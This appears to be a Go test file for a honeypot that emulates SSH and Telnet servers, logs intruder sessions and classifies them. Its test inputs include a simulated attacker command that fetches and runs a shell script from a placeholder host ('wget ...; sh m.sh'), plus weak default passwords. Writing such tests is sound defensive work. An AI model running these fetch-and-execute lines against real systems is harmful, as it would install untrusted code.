package honeypot

import (
	"bytes"
	"io"
	"net"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"honeynet/internal/obs"
	"honeynet/internal/session"
	"honeynet/internal/shell"
	"honeynet/internal/sshclient"
)

type sink struct {
	mu   sync.Mutex
	recs []*session.Record
	ch   chan *session.Record
}

func newSink() *sink { return &sink{ch: make(chan *session.Record, 64)} }

func (s *sink) add(r *session.Record) error {
	s.mu.Lock()
	s.recs = append(s.recs, r)
	s.mu.Unlock()
	s.ch <- r
	return nil
}

func (s *sink) wait(t *testing.T) *session.Record {
	t.Helper()
	select {
	case r := <-s.ch:
		return r
	case <-time.After(5 * time.Second):
		t.Fatal("no session record arrived")
		return nil
	}
}

func startNode(t *testing.T) (*Node, string, string, *sink) {
	t.Helper()
	sk := newSink()
	node, err := New(Config{
		ID:       "hp-test",
		PublicIP: "198.18.0.1",
		Sink:     sk.add,
		Timeout:  10 * time.Second,
		Download: func(uri string) ([]byte, error) { return []byte("MALWARE:" + uri), nil },
	})
	if err != nil {
		t.Fatal(err)
	}
	sshAddr, err := node.ListenSSH("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	telnetAddr, err := node.ListenTelnet("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { node.Close() })
	return node, sshAddr, telnetAddr, sk
}

func TestSSHExecSessionRecorded(t *testing.T) {
	_, addr, _, sk := startNode(t)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "admin123"})
	if err != nil {
		t.Fatal(err)
	}
	res, err := cli.Exec("uname -a; wget http://198.51.100.7/m.sh; sh m.sh")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(res.Output), "Linux") {
		t.Errorf("output = %q", res.Output)
	}
	cli.Close()
	rec := sk.wait(t)
	if rec.Kind() != session.CommandExec {
		t.Errorf("kind = %v", rec.Kind())
	}
	if len(rec.Logins) != 1 || !rec.Logins[0].Success || rec.Logins[0].Password != "admin123" {
		t.Errorf("logins = %+v", rec.Logins)
	}
	if len(rec.Commands) != 1 {
		t.Errorf("commands = %+v", rec.Commands)
	}
	if len(rec.Downloads) != 1 || rec.Downloads[0].SourceIP != "198.51.100.7" {
		t.Errorf("downloads = %+v", rec.Downloads)
	}
	if len(rec.ExecAttempts) != 1 || !rec.ExecAttempts[0].FileExists {
		t.Errorf("execs = %+v", rec.ExecAttempts)
	}
	if !rec.StateChanged || len(rec.DroppedHashes) != 1 {
		t.Errorf("state: %v hashes: %v", rec.StateChanged, rec.DroppedHashes)
	}
	if rec.Protocol != session.ProtoSSH || rec.HoneypotID != "hp-test" {
		t.Errorf("record meta = %+v", rec)
	}
}

func TestSSHInteractiveShellSession(t *testing.T) {
	_, addr, _, sk := startNode(t)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	sh, err := cli.Shell()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sh.ReadUntil("# "); err != nil {
		t.Fatal(err)
	}
	out, err := sh.Run("echo -e \"\\x6F\\x6B\"", "# ")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "ok") {
		t.Errorf("shell echo = %q", out)
	}
	if _, err := sh.Run("cd /tmp", "# "); err != nil {
		t.Fatal(err)
	}
	out, err = sh.Run("pwd", "# ")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "/tmp") {
		t.Errorf("pwd = %q", out)
	}
	// exit terminates the session cleanly. Read until the shell closes the
	// channel before closing the connection: a close with the server's
	// last prompt bytes still unread can reset the connection, and the
	// server then never sees the "exit" it had not read yet.
	if _, err := sh.Write([]byte("exit\n")); err != nil {
		t.Fatal(err)
	}
	if out, err := sh.ReadUntil("\x00"); err != io.EOF {
		t.Fatalf("shell stayed open after exit: %q, %v", out, err)
	}
	cli.Close()
	rec := sk.wait(t)
	if got := len(rec.Commands); got != 4 {
		t.Errorf("commands recorded = %d (%+v)", got, rec.Commands)
	}
	if rec.StateChanged {
		t.Error("recon session must not be state-changing")
	}
}

func TestScoutingSessionRootRoot(t *testing.T) {
	_, addr, _, sk := startNode(t)
	_, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "root"})
	if err == nil {
		t.Fatal("root:root must be rejected")
	}
	rec := sk.wait(t)
	if rec.Kind() != session.Scouting {
		t.Errorf("kind = %v, want scouting", rec.Kind())
	}
}

func TestIntrusionSession(t *testing.T) {
	_, addr, _, sk := startNode(t)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "3245gs5662d34"})
	if err != nil {
		t.Fatal(err)
	}
	cli.Close() // login then leave: the 3245gs5662d34 pattern
	rec := sk.wait(t)
	if rec.Kind() != session.Intrusion {
		t.Errorf("kind = %v, want intrusion", rec.Kind())
	}
	if rec.Logins[0].Password != "3245gs5662d34" {
		t.Errorf("password = %q", rec.Logins[0].Password)
	}
}

func TestScanningSession(t *testing.T) {
	_, addr, _, sk := startNode(t)
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	nc.Close() // bare TCP handshake, no SSH
	rec := sk.wait(t)
	if rec.Kind() != session.Scanning {
		t.Errorf("kind = %v, want scanning", rec.Kind())
	}
}

func TestPhilFingerprintLogin(t *testing.T) {
	_, addr, _, sk := startNode(t)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "phil", Password: "anything"})
	if err != nil {
		t.Fatalf("phil must log in (Cowrie default): %v", err)
	}
	cli.Close()
	rec := sk.wait(t)
	if !rec.LoggedIn() || rec.Logins[0].Username != "phil" {
		t.Errorf("logins = %+v", rec.Logins)
	}
	// richard (pre-2020 default) must fail.
	_, err = sshclient.Dial(addr, sshclient.Config{User: "richard", Password: "anything"})
	if err == nil {
		t.Fatal("richard must be rejected")
	}
	rec = sk.wait(t)
	if rec.LoggedIn() {
		t.Error("richard session must be a failed login")
	}
}

func TestTelnetSession(t *testing.T) {
	_, _, addr, sk := startNode(t)
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	nc.SetDeadline(time.Now().Add(5 * time.Second))

	readUntil := func(marker string) string {
		var buf bytes.Buffer
		tmp := make([]byte, 256)
		for !strings.Contains(buf.String(), marker) {
			n, err := nc.Read(tmp)
			if n > 0 {
				// Strip IAC negotiation bytes crudely for the assertion.
				for _, b := range tmp[:n] {
					if b < 0xf0 {
						buf.WriteByte(b)
					}
				}
			}
			if err != nil {
				break
			}
		}
		return buf.String()
	}

	readUntil("login: ")
	nc.Write([]byte("root\r\n"))
	readUntil("Password: ")
	nc.Write([]byte("12345\r\n"))
	readUntil("# ")
	nc.Write([]byte("uname\r\n"))
	out := readUntil("# ")
	if !strings.Contains(out, "Linux") {
		t.Errorf("telnet uname = %q", out)
	}
	nc.Write([]byte("exit\r\n"))
	nc.Close()

	rec := sk.wait(t)
	if rec.Protocol != session.ProtoTelnet {
		t.Errorf("protocol = %q", rec.Protocol)
	}
	if rec.Kind() != session.CommandExec {
		t.Errorf("kind = %v", rec.Kind())
	}
	if len(rec.Commands) == 0 || rec.Commands[0].Raw != "uname" {
		t.Errorf("commands = %+v", rec.Commands)
	}
}

// TestTelnetCarriageReturnNul: a client that ends every line with CR
// NUL (RFC 854's bare CR) logs in, and its shell lines are recorded
// as typed, with no NUL carried into the next one. Such a client used to
// sit at the login prompt until its deadline.
func TestTelnetCarriageReturnNul(t *testing.T) {
	_, _, addr, sk := startNode(t)
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	nc.SetDeadline(time.Now().Add(5 * time.Second))
	readUntil := func(marker string) {
		var seen []byte
		tmp := make([]byte, 256)
		for !bytes.Contains(seen, []byte(marker)) {
			n, err := nc.Read(tmp)
			seen = append(seen, tmp[:n]...)
			if err != nil {
				t.Fatalf("waiting for %q: %v (read %q)", marker, err, seen)
			}
		}
	}
	readUntil("login: ")
	nc.Write([]byte("root\r\x00"))
	readUntil("Password: ")
	nc.Write([]byte("12345\r\x00"))
	readUntil("# ")
	nc.Write([]byte("uname\r\x00"))
	readUntil("# ")
	nc.Write([]byte("pwd\r\x00"))
	readUntil("# ")
	nc.Write([]byte("exit\r\x00"))

	rec := sk.wait(t)
	if len(rec.Logins) != 1 || !rec.Logins[0].Success {
		t.Errorf("logins = %+v, want one success", rec.Logins)
	}
	var cmds []string
	for _, c := range rec.Commands {
		cmds = append(cmds, c.Raw)
	}
	if want := []string{"uname", "pwd", "exit"}; !slices.Equal(cmds, want) {
		t.Errorf("commands = %q, want %q", cmds, want)
	}
}

func TestSessionTimeoutEndsConnection(t *testing.T) {
	sk := newSink()
	node, err := New(Config{
		ID:      "hp-timeout",
		Sink:    sk.add,
		Timeout: 500 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	addr, err := node.ListenSSH("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer node.Close()

	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	sh, err := cli.Shell()
	if err != nil {
		t.Fatal(err)
	}
	sh.ReadUntil("# ")
	rec := sk.wait(t)
	if !rec.TimedOut {
		t.Error("session must be marked timed out")
	}
}

func TestSharedFilesystemAcrossExecs(t *testing.T) {
	// Multiple exec channels on one connection must see the same vfs —
	// the stateful-attacker consistency check from section 5.
	_, addr, _, sk := startNode(t)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cli.Exec("echo canary > /tmp/check"); err != nil {
		t.Fatal(err)
	}
	res, err := cli.Exec("cat /tmp/check")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(res.Output), "canary") {
		t.Errorf("second exec lost state: %q", res.Output)
	}
	cli.Close()
	rec := sk.wait(t)
	if len(rec.Commands) != 2 {
		t.Errorf("commands = %+v", rec.Commands)
	}
}

func TestPersistentModeSurvivesReconnect(t *testing.T) {
	// The "Call for Better Honeypots" extension: with Persistent on, the
	// attacker's consistency check — drop a file, reconnect, verify —
	// succeeds instead of exposing the honeypot.
	sk := newSink()
	node, err := New(Config{
		ID:         "hp-persist",
		Sink:       sk.add,
		Persistent: true,
		Timeout:    10 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	addr, err := node.ListenSSH("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer node.Close()

	// Session 1: plant a canary.
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "a"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cli.Exec("echo consistency-canary > /tmp/.check"); err != nil {
		t.Fatal(err)
	}
	cli.Close()
	rec1 := sk.wait(t)
	if !rec1.StateChanged || len(rec1.DroppedHashes) != 1 {
		t.Fatalf("session 1: state=%v hashes=%v", rec1.StateChanged, rec1.DroppedHashes)
	}

	// Session 2 (same client IP): the canary is still there.
	cli, err = sshclient.Dial(addr, sshclient.Config{User: "root", Password: "b"})
	if err != nil {
		t.Fatal(err)
	}
	res, err := cli.Exec("cat /tmp/.check")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(res.Output), "consistency-canary") {
		t.Errorf("consistency check failed: %q", res.Output)
	}
	cli.Close()
	rec2 := sk.wait(t)
	// Reading the canary changed nothing: session 2 must NOT inherit
	// session 1's state-change accounting.
	if rec2.StateChanged || len(rec2.DroppedHashes) != 0 {
		t.Errorf("session 2 wrongly marked state-changing: %v %v", rec2.StateChanged, rec2.DroppedHashes)
	}
}

func TestNonPersistentModeForgets(t *testing.T) {
	_, addr, _, sk := startNode(t) // default: Persistent off
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "a"})
	if err != nil {
		t.Fatal(err)
	}
	cli.Exec("echo gone > /tmp/.check")
	cli.Close()
	sk.wait(t)

	cli, err = sshclient.Dial(addr, sshclient.Config{User: "root", Password: "b"})
	if err != nil {
		t.Fatal(err)
	}
	res, err := cli.Exec("cat /tmp/.check")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(res.Output), "No such file") {
		t.Errorf("default mode must forget files across connections: %q", res.Output)
	}
	cli.Close()
	sk.wait(t)
}

func TestNodeMetrics(t *testing.T) {
	node, addr, _, sk := startNode(t)
	reg := obs.NewRegistry()
	node.Register(reg)
	// One failed + one successful connection with a download.
	sshclient.Dial(addr, sshclient.Config{User: "root", Password: "root"})
	sk.wait(t)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "ok"})
	if err != nil {
		t.Fatal(err)
	}
	cli.Exec("wget http://198.51.100.7/x; uname")
	cli.Close()
	sk.wait(t)

	m := node.Metrics()
	if m.SSHConnections != 2 {
		t.Errorf("ssh conns = %d", m.SSHConnections)
	}
	if m.AuthSuccesses != 1 || m.AuthFailures != 1 {
		t.Errorf("auth = %+v", m)
	}
	if m.Commands != 1 || m.Downloads != 1 || m.StateChanges != 1 {
		t.Errorf("activity counters = %+v", m)
	}

	// The obs registry view must agree with the legacy Metrics struct.
	snap := reg.Snapshot()
	for series, want := range map[string]float64{
		`honeynet_node_connections_total{proto="ssh"}`: 2,
		`honeynet_node_auth_total{result="ok"}`:        1,
		`honeynet_node_auth_total{result="fail"}`:      1,
		"honeynet_node_commands_total":                 1,
		"honeynet_node_downloads_total":                1,
		"honeynet_node_state_changes_total":            1,
		"honeynet_node_active_connections":             0,
		"honeynet_session_duration_seconds_count":      2,
	} {
		if got := snap[series]; got != want {
			t.Errorf("registry %s = %v, want %v", series, got, want)
		}
	}
}

// raceSlowdown scales wall-clock bounds; race_test.go raises it under
// the race detector.
var raceSlowdown time.Duration = 1

// TestInteractiveLongLineIsLinear feeds the interactive loop 8 MiB with
// no line end, 4 KiB a read, then "exit\r\n": the pending line is scanned
// once, not once per read, so the session ends in well under the ~12 s
// a rescan of every read took. Only the line's first maxLine bytes are
// kept, so the "exit" at its end is dropped with the rest.
func TestInteractiveLongLineIsLinear(t *testing.T) {
	node, err := New(Config{ID: "hp-test", Sink: func(*session.Record) error { return nil }})
	if err != nil {
		t.Fatal(err)
	}
	long := bytes.Repeat([]byte("A"), 8<<20)
	sh := shell.New("svr04", nil)
	start := time.Now()
	node.interactive(&connState{}, sh, io.MultiReader(bytes.NewReader(long), strings.NewReader("exit\r\n")), io.Discard)
	if d, bound := time.Since(start), 3*time.Second*raceSlowdown; d > bound {
		t.Errorf("an 8 MiB line took %v, want under %v", d, bound)
	}
	if cmds := sh.Commands(); len(cmds) != 1 || cmds[0].Raw != string(long[:maxLine]) {
		t.Errorf("recorded %d commands, want the first %d bytes of the 8 MiB line", len(cmds), maxLine)
	}
}

// TestLongLineCappedOverSSH sends 64 MiB with no line end through a
// real SSH shell, then a line end and "echo ok": the recorded command is
// the line's first maxLine bytes, and the shell still answers.
func TestLongLineCappedOverSSH(t *testing.T) {
	_, addr, _, sk := startNode(t)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	sh, err := cli.Shell()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sh.ReadUntil("# "); err != nil {
		t.Fatal(err)
	}
	chunk := bytes.Repeat([]byte("A"), 1<<20)
	for i := 0; i < 64; i++ {
		if _, err := sh.Write(chunk); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := sh.Run("", "# "); err != nil {
		t.Fatal(err)
	}
	out, err := sh.Run("echo ok", "# ")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "ok\r\n") {
		t.Errorf("echo ok after the long line printed %q", out)
	}
	sh.Close()
	cli.Close()
	rec := sk.wait(t)
	if len(rec.Commands) != 2 || rec.Commands[0].Raw != string(chunk[:maxLine]) || rec.Commands[1].Raw != "echo ok" {
		t.Errorf("recorded %d commands; want the line's first %d bytes, then echo ok", len(rec.Commands), maxLine)
	}
}
